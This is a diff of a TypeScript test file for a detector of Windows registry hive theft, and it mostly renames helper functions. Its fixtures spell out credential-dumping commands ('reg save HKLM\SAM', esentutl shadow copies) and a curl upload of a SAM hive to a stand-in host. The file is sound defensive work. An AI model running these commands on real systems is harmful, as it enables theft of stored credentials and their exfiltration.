@@ -1,9 +1,8 @@
 /** Facts of hive acts and of what happened around them, each with a benign twin. */
 import { describe, expect, it } from 'vitest';
-import { anchoredAtCommand } from '../../../src/core/case/hive-anchor.ts';
-import { caseFacts } from '../../../src/core/facts/case-facts.ts';
+import { atCommand } from '../../../src/core/case/hive-command.ts';
 import { findingId } from '../../../src/core/finding/finding-id.ts';
-import { created, event, found, joined, NOON, run } from './events.ts';
+import { created, event, factsOfCase, found, joined, NOON, run } from './events.ts';
 
 const at = (seconds: number) => ({ time: NOON + seconds * 1000 });
 const place = (line: number) => ({ source: { kind: 'file', file: 'made-up.ndjson', line } as const });
@@ -13,14 +12,14 @@ const ESENTUTL = 'C:\\Windows\\System32\\esentutl.exe';
 
 describe('the hives taken', () => {
   it('are told by the key, by the hive file, or by the name of the file alone', () => {
-    expect(caseFacts(joined(run('reg save HKLM\\SAM C:\\t\\s')))).toMatchObject({
+    expect(factsOfCase(joined(run('reg save HKLM\\SAM C:\\t\\s')))).toMatchObject({
       'hive.taken': ['SAM'],
       'hive.act': 'copy',
       'hive.method': 'reg',
       'hive.output.path': 'c:\\t\\s',
     });
     const copy = program('esentutl /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\t\\x', ESENTUTL, 0);
-    expect(caseFacts(joined(copy))).toMatchObject({
+    expect(factsOfCase(joined(copy))).toMatchObject({
       'hive.taken': ['SAM'],
       'hive.method': 'file_copy',
       'hive.tool': 'esentutl',
@@ -28,7 +27,7 @@ describe('the hives taken', () => {
       'hive.shadow_copy': true,
       'hive.output.name': 'x',
     });
-    expect(caseFacts(joined(created('C:\\t\\sam.hive')))).toMatchObject({
+    expect(factsOfCase(joined(created('C:\\t\\sam.hive')))).toMatchObject({
       'hive.taken': ['SAM'],
       'hive.act': 'file',
       'hive.method': 'created_file',
@@ -42,20 +41,20 @@ describe('the hives taken', () => {
       run('reg export HKLM\\SOFTWARE\\X C:\\t\\x.reg'),
       created('C:\\t\\system.log'),
     ]) {
-      expect(caseFacts(joined(anchor))['hive.taken']).toBeUndefined();
+      expect(factsOfCase(joined(anchor))['hive.taken']).toBeUndefined();
     }
-    expect(caseFacts(joined(run('reg query HKLM\\SAM')))['hive.act']).toBeUndefined();
+    expect(factsOfCase(joined(run('reg query HKLM\\SAM')))['hive.act']).toBeUndefined();
   });
 
   it('make a pair whatever the methods are, and only commands prove one', () => {
     const system = created('C:\\t\\system.save', at(60));
-    const facts = caseFacts(joined(run('reg save HKLM\\SAM C:\\t\\s'), { neighbours: [system] }));
+    const facts = factsOfCase(joined(run('reg save HKLM\\SAM C:\\t\\s'), { neighbours: [system] }));
     expect(facts).toMatchObject({ 'pair.hives': ['SAM', 'SYSTEM'], 'pair.proven': ['SAM'], 'pair.count': 1 });
-    const alone = caseFacts(
+    const alone = factsOfCase(
       joined(run('reg save HKLM\\SAM C:\\t\\s'), { neighbours: [created('C:\\t\\a.log')] }),
     );
     expect(alone['pair.hives']).toEqual(['SAM']);
-    const files = caseFacts(joined(created('C:\\t\\sam'), { neighbours: [system] }));
+    const files = factsOfCase(joined(created('C:\\t\\sam'), { neighbours: [system] }));
     expect(files).toMatchObject({ 'pair.hives': ['SAM', 'SYSTEM'], 'pair.count': 0 });
     expect(files['pair.proven']).toBeUndefined();
   });
@@ -71,22 +70,22 @@ describe('what is done to a hive', () => {
     ['reg unload HKU\\T', undefined],
     ['whoami', undefined],
   ])('by %s is: %s', (line, act) => {
-    expect(caseFacts(joined(run(line)))['hive.act']).toBe(act);
+    expect(factsOfCase(joined(run(line)))['hive.act']).toBe(act);
   });
 
   it('leaves a file below the folder that the program worked in, when that is logged', () => {
     const output = (line: string, fields = {}) =>
-      caseFacts(joined(run(line, {}, fields)))['hive.output.path'];
+      factsOfCase(joined(run(line, {}, fields)))['hive.output.path'];
     const here = { 'process.working_directory': 'C:\\w\\' };
     expect(output('reg save HKLM\\SAM s')).toBe('s');
     expect(output('reg save HKLM\\SAM s', here)).toBe('c:\\w\\s');
     expect(output('reg save HKLM\\SAM D:\\s', here)).toBe('d:\\s');
     expect(output('reg query HKLM\\SAM', here)).toBeUndefined();
-    expect(caseFacts(joined(event('file_create', {})))['hive.output.path']).toBeUndefined();
+    expect(factsOfCase(joined(event('file_create', {})))['hive.output.path']).toBeUndefined();
   });
 
   it('takes a hive only when it is the whole of one that has a name', () => {
-    const taken = (line: string) => caseFacts(joined(run(line)))['hive.taken'];
+    const taken = (line: string) => factsOfCase(joined(run(line)))['hive.taken'];
     expect(taken('reg save HKLM\\SAM\\x C:\\s')).toBeUndefined();
     expect(taken('reg save HKLM C:\\s')).toBeUndefined();
     expect(taken('reg save HKCU C:\\s')).toEqual(['NTUSER']);
@@ -98,15 +97,15 @@ describe('a key saved and put back', () => {
   const save = run('reg save HKLM\\SOFTWARE\\X C:\\t\\x', at(-300));
   it('tells both how far they are apart', () => {
     const restore = run('reg restore HKLM\\software\\x C:\\t\\x', at(0));
-    expect(caseFacts(joined(restore, { neighbours: [save] }))['pair.save_before']).toBe(300);
-    expect(caseFacts(joined(save, { neighbours: [restore] }))['pair.restore_after']).toBe(300);
+    expect(factsOfCase(joined(restore, { neighbours: [save] }))['pair.save_before']).toBe(300);
+    expect(factsOfCase(joined(save, { neighbours: [restore] }))['pair.restore_after']).toBe(300);
   });
 
   it('is not made of two keys, nor of a restore before its save', () => {
     const other = run('reg restore HKLM\\SOFTWARE\\Y C:\\t\\x', at(0));
-    expect(caseFacts(joined(other, { neighbours: [save] }))['pair.save_before']).toBeUndefined();
+    expect(factsOfCase(joined(other, { neighbours: [save] }))['pair.save_before']).toBeUndefined();
     const early = run('reg restore HKLM\\SOFTWARE\\X C:\\t\\x', at(-600));
-    expect(caseFacts(joined(early, { neighbours: [save] }))['pair.save_before']).toBeUndefined();
+    expect(factsOfCase(joined(early, { neighbours: [save] }))['pair.save_before']).toBeUndefined();
   });
 });
 
@@ -117,7 +116,7 @@ describe('a loaded hive', () => {
   it('tells what was written below its mount and when it was unloaded', () => {
     const path = 'HKU\\Tmp\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x';
     const neighbours = [write(path, 5), run('reg unload hku\\tmp', at(9))];
-    expect(caseFacts(joined(load, { neighbours }))).toMatchObject({
+    expect(factsOfCase(joined(load, { neighbours }))).toMatchObject({
       'pair.mount_writes': 1,
       'pair.mount_paths': [path],
       'pair.unload_after': 9,
@@ -130,7 +129,7 @@ describe('a loaded hive', () => {
       write('HKU\\Tmp2\\x', 5),
       run('reg unload HKU\\Other', at(9)),
     ];
-    const facts = caseFacts(joined(load, { neighbours }));
+    const facts = factsOfCase(joined(load, { neighbours }));
     expect(facts['pair.mount_writes']).toBe(0);
     expect(facts['pair.mount_paths']).toBeUndefined();
     expect(facts['pair.unload_after']).toBeUndefined();
@@ -147,7 +146,7 @@ describe('a copy moved on', () => {
     ['robocopy C:\\Temp\\out \\\\srv\\drop', 'robocopy.exe'],
     ['curl -T "C:/Temp/out/sam.hiv" https://drop.example', 'curl.exe'],
   ])('is told by %s', (line, name) => {
-    const facts = caseFacts(joined(save, { neighbours: [program(line, `C:\\x\\${name}`, 60)] }));
+    const facts = factsOfCase(joined(save, { neighbours: [program(line, `C:\\x\\${name}`, 60)] }));
     expect(facts).toMatchObject({ 'pair.moved_by': [name], 'pair.moved_line': line });
   });
 
@@ -157,7 +156,7 @@ describe('a copy moved on', () => {
     ['cmd.exe /c copy C:\\samples.hiv D:\\', 60],
     ['cmd.exe /c reg save HKLM\\SAM C:\\Temp\\out\\sam.hiv', 0],
   ])('is not told by %s at %i seconds', (line, seconds) => {
-    const facts = caseFacts(joined(save, { neighbours: [program(line, 'C:\\x\\a.exe', seconds)] }));
+    const facts = factsOfCase(joined(save, { neighbours: [program(line, 'C:\\x\\a.exe', seconds)] }));
     expect(facts['pair.moved_by']).toBeUndefined();
   });
 });
@@ -166,19 +165,21 @@ describe('a file that a command wrote', () => {
   const save = run('reg save HKLM\\SAM C:\\t\\sam.hive', { entityId: 'R', ...place(1) });
   const file = created('C:\\t\\sam.hive', { entityId: 'R', ...place(2), ...at(1) });
   it('is evidence of the command, not an act of its own', () => {
-    const act = anchoredAtCommand(joined(file, { writer: found(save), neighbours: [save] }));
+    const act = atCommand(joined(file, { writer: found(save), neighbours: [save] }));
     expect(act).toMatchObject({
       anchor: save,
       payloadFile: { status: 'found', event: file },
       neighbours: [],
     });
-    expect(findingId('hive', act.anchor)).toBe(findingId('hive', save));
+    expect(findingId('hive', act)).toBe(findingId('hive', { anchor: save }));
   });
 
   it('stays an act of its own when its writer names another file or is not known', () => {
     const other = run('reg save HKLM\\SAM C:\\t\\other', { entityId: 'R', ...place(1) });
-    expect(anchoredAtCommand(joined(file, { writer: found(other) })).anchor).toBe(file);
-    expect(anchoredAtCommand(joined(file)).anchor).toBe(file);
-    expect(findingId('hive', file)).not.toBe(findingId('hive', created('C:\\t\\system.hive')));
+    expect(atCommand(joined(file, { writer: found(other) })).anchor).toBe(file);
+    expect(atCommand(joined(file)).anchor).toBe(file);
+    expect(findingId('hive', { anchor: file })).not.toBe(
+      findingId('hive', { anchor: created('C:\\t\\system.hive') }),
+    );
   });
 });
